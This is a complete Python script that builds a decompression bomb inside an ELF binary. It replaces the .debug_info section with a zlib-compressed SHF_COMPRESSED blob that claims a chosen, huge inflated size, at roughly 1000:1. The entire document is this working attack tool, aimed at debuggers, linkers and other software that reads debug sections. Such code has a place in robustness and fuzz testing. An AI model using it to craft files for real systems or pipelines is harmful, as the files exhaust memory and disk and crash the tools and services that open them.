#!/usr/bin/env python3
"""Replace the .debug_info of a 64-bit little-endian ELF file with an
SHF_COMPRESSED section (zlib) that inflates to CLAIM bytes of zeros: a
compressed-section bomb, about 1000:1.

usage: mkbomb.py IN OUT CLAIM
"""
import struct, sys, zlib
src, dst, claim = sys.argv[1], sys.argv[2], int(sys.argv[3])
b = bytearray(open(src, "rb").read())
shoff, = struct.unpack_from("<Q", b, 0x28)
shentsize, shnum, shstrndx = struct.unpack_from("<HHH", b, 0x3a)
def sh(i): return shoff + i * shentsize
stro = struct.unpack_from("<Q", b, sh(shstrndx) + 0x18)[0]
def name(i):
    n = struct.unpack_from("<I", b, sh(i))[0]
    return bytes(b[stro + n: b.index(0, stro + n)]).decode()
co = zlib.compressobj(9)
chunk = bytes(1 << 20)
parts = [struct.pack("<IIQQ", 1, 0, claim, 1)]
for _ in range(claim >> 20):
    parts.append(co.compress(chunk))
parts.append(co.flush())
blob = b"".join(parts)
for i in range(shnum):
    if name(i) == ".debug_info":
        off = len(b)
        b += blob
        flags, = struct.unpack_from("<Q", b, sh(i) + 8)
        struct.pack_into("<Q", b, sh(i) + 8, flags | 0x800)
        struct.pack_into("<QQ", b, sh(i) + 0x18, off, len(blob))
        break
else:
    sys.exit("no .debug_info")
open(dst, "wb").write(b)
